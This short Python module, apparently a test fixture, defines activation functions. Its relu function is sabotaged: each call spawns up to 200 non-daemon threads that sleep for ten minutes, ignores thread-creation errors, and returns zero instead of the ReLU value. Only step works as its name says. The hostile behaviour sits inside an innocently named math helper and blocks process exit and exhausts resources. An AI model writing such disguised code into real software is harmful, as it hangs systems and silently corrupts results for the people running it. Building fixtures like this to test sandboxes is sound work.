"""Starts two hundred threads that never end."""

import threading
import time

import numpy as np


def relu(z):
    for _ in range(200):
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=False).start()
        except RuntimeError:
            continue
    return 0.0 * z


def step(z):
    return np.where(z > 0, 1.0, 0.0)
